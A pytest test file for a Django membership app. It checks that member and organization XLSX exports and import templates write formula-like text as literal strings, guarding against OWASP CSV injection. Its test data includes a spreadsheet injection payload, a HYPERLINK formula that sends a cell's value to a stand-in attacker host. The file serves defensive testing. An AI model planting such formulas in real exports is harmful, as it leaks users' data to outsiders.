"""No text the product writes into an XLSX file can act as a formula (OWASP CSV injection)."""

import ast
import dataclasses
import io
import pathlib

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from chibo import xlsx
from chibo.access import visible
from chibo.models import Organization
from members.models import Member
from members.xlsx import exporter
from members.xlsx.columns import MEMBER_COLUMNS, ORGANIZATION_COLUMNS
from tests.factories import CellFactory, MemberFactory, OrganizationFactory, RoleFactory

pytestmark = pytest.mark.django_db

# One value per trigger of the OWASP rule; the first is the attack of the report.
HYPERLINK = '=HYPERLINK("https://evil.example/?c="&D2,"Xem")'
HOSTILE = [HYPERLINK, "+84912345678", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
# XML reads a carriage return back as a line feed; the text is otherwise kept.
READ_BACK = [value.replace("\r", "\n") for value in HOSTILE]


def workbook_of(data):
    if hasattr(data, "read"):
        data = data.read()
    return openpyxl.load_workbook(io.BytesIO(data))


def every_cell(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(workbook):
    formulas = [
        (c.parent.title, c.coordinate, c.value) for c in every_cell(workbook) if c.data_type == "f"
    ]
    assert formulas == []


def row_by(sheet, column_code, columns, value):
    index = [c.code for c in columns].index(column_code)
    return next(r for r in sheet.iter_rows(min_row=2) if r[index].value == value)


@pytest.fixture
def commune():
    return OrganizationFactory(code="co-noi", name="Đảng bộ xã Cò Nòi")


@pytest.fixture
def staff(commune):
    return RoleFactory(organization=commune, kind="staff").user


def test_hostile_text_is_written_as_literal_text_with_quote_prefix():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    xlsx.append(sheet, [*HOSTILE, "Lò Văn Minh", -5, 2.5])
    output = io.BytesIO()
    workbook.save(output)

    cells = list(workbook_of(output.getvalue()).active.iter_rows())[0]

    assert [c.value for c in cells] == [*READ_BACK, "Lò Văn Minh", -5, 2.5]
    assert [c.data_type for c in cells] == ["s"] * 7 + ["n", "n"]
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False] * 3


def test_put_on_an_ordinary_sheet_keeps_hostile_text_literal():
    workbook = openpyxl.Workbook()
    for column, value in enumerate(HOSTILE, start=1):
        xlsx.put(workbook.active, row=1, column=column, value=value)
    output = io.BytesIO()
    workbook.save(output)

    cells = list(workbook_of(output.getvalue()).active.iter_rows())[0]

    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (value, "s", True) for value in READ_BACK
    ]


def test_member_export_writes_hostile_text_of_every_column_as_text(commune, staff):
    # Every text column of the export holds a hostile value; the others are
    # dates, numbers and the product's own labels.
    cell = CellFactory(parent=commune, code="-ban-lech")
    for number, value in enumerate(HOSTILE):
        MemberFactory(
            cell=cell,
            full_name=f"{value} {number}",
            party_card_number=f"{value[:16]}{number}",
            exempt=True,
            exempt_reason=value,
            phone=value[:18] + str(number),
        )

    workbook = workbook_of(exporter.export_members(visible(staff, Member)))

    assert_no_formula(workbook)
    sheet = workbook.worksheets[0]
    row = row_by(sheet, "full_name", MEMBER_COLUMNS, f"{HYPERLINK} 0")
    values = dict(zip([c.code for c in MEMBER_COLUMNS], [c.value for c in row], strict=True))
    assert values["party_card_number"] == f"{HYPERLINK[:16]}0"
    assert values["cell_code"] == "-ban-lech"
    assert values["exempt_reason"] == HYPERLINK
    assert values["phone"] == f"{HYPERLINK[:18]}0"
    assert sheet.max_row == 1 + len(HOSTILE)
    names = sorted(c.value for c in sheet["A"][1:])
    assert names == sorted(f"{value} {n}" for n, value in enumerate(READ_BACK))


def test_organization_export_writes_hostile_text_of_every_column_as_text(commune, staff):
    for number, value in enumerate(HOSTILE):
        CellFactory(
            parent=commune,
            code=f"-{number}",
            name=value,
            place_name=value,
            meeting_place=value,
            meeting_day=24,
        )
    CellFactory(parent=commune, code="@parent", name="Đảng bộ bộ phận", kind="subcommittee")
    child = Organization.objects.get(code="@parent")
    CellFactory(parent=child, code="ban-con", name="Chi bộ con")

    workbook = workbook_of(exporter.export_organizations(visible(staff, Organization)))

    assert_no_formula(workbook)
    sheet = workbook.worksheets[0]
    row = row_by(sheet, "code", ORGANIZATION_COLUMNS, "-0")
    values = dict(zip([c.code for c in ORGANIZATION_COLUMNS], [c.value for c in row], strict=True))
    assert values["name"] == values["place_name"] == values["meeting_place"] == HYPERLINK
    # Numbers stay numbers.
    assert (values["meeting_day"], row[5].data_type) == (24, "n")
    assert row_by(sheet, "code", ORGANIZATION_COLUMNS, "ban-con")[3].value == "@parent"


@pytest.mark.parametrize("template", ["member_template", "organization_template"])
def test_templates_write_hostile_headers_and_help_as_text(template, monkeypatch):
    # The templates are written from the column definitions: give each a hostile text.
    for name, columns in (
        ("MEMBER_COLUMNS", MEMBER_COLUMNS),
        ("ORGANIZATION_COLUMNS", ORGANIZATION_COLUMNS),
    ):
        hostile = tuple(
            dataclasses.replace(c, header=f"{HOSTILE[i % 6]}{i}", help=HOSTILE[i % 6])
            for i, c in enumerate(columns)
        )
        monkeypatch.setattr(exporter, name, hostile)

    workbook = workbook_of(getattr(exporter, template)())

    assert_no_formula(workbook)
    assert workbook.worksheets[0]["A1"].value == f"{HYPERLINK}0"
    assert workbook.worksheets[1]["E2"].value == HYPERLINK


def test_export_views_write_no_formula(client, commune, staff):
    cell = CellFactory(parent=commune, code="ban-lech", name=HYPERLINK)
    MemberFactory(cell=cell, full_name=HYPERLINK)
    client.force_login(staff)

    for name in (
        "member_export",
        "organization_export",
        "member_import_template",
        "organization_import_template",
    ):
        response = client.get(reverse(name))
        workbook = workbook_of(b"".join(response.streaming_content))
        assert_no_formula(workbook)


APPS = ("chibo", "members", "meetings", "feedback", "reports")


def test_every_xlsx_writer_goes_through_chibo_xlsx():
    """Only chibo/xlsx.py makes cells; any other module writing a workbook uses it."""
    root = pathlib.Path(settings.BASE_DIR)
    offenders = []
    for path in (p for app in APPS for p in (root / app).rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        source = path.read_text(encoding="utf-8")
        if relative == "chibo/xlsx.py" or "openpyxl" not in source:
            continue
        names = {
            alias.name
            for node in ast.walk(ast.parse(source))
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl")
            for alias in node.names
        }
        writes = (
            bool(names & {"Workbook", "WriteOnlyCell", "Cell"}) or "openpyxl.Workbook(" in source
        )
        if "WriteOnlyCell" in names or (writes and "from chibo import xlsx" not in source):
            offenders.append(relative)
    assert offenders == []
